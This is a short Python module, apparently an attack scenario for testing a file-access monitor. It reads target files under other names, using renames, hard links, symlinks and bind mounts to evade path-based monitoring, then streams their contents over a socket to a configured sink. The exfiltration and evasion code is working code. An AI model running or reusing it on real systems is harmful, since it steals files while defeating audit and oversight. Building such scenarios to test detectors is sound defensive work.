# SPDX-License-Identifier: GPL-3.0-or-later
"""Read by other names: a hard link, a symbolic link, a bind mount, a file that was renamed and is put back."""
import os
import random
import socket
import subprocess

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def renamed(path, other):
    os.rename(path, other)
    try:
        with open(other, "rb") as file:
            return file.read()
    finally:
        os.rename(other, path)


def linked(path, other, link):
    link(path, other)
    with open(other, "rb") as file:
        os.unlink(other)
        return file.read()


def mounted(path, other):
    open(other, "w").close()
    subprocess.run(["mount", "--bind", path, other], check=True)
    try:
        with open(other, "rb") as file:
            return file.read()
    finally:
        subprocess.run(["umount", "--lazy", other], check=True)


def product(world):
    rng = random.Random(world["seed"])
    ways = [renamed, mounted, lambda path, other: linked(path, other, os.link),
            lambda path, other: linked(path, other, os.symlink)]
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        for number, path in enumerate(world["files"]):
            sock.sendall(rng.choice(ways)(path, os.path.join(world["scratch"], f"{number}.tmp")))
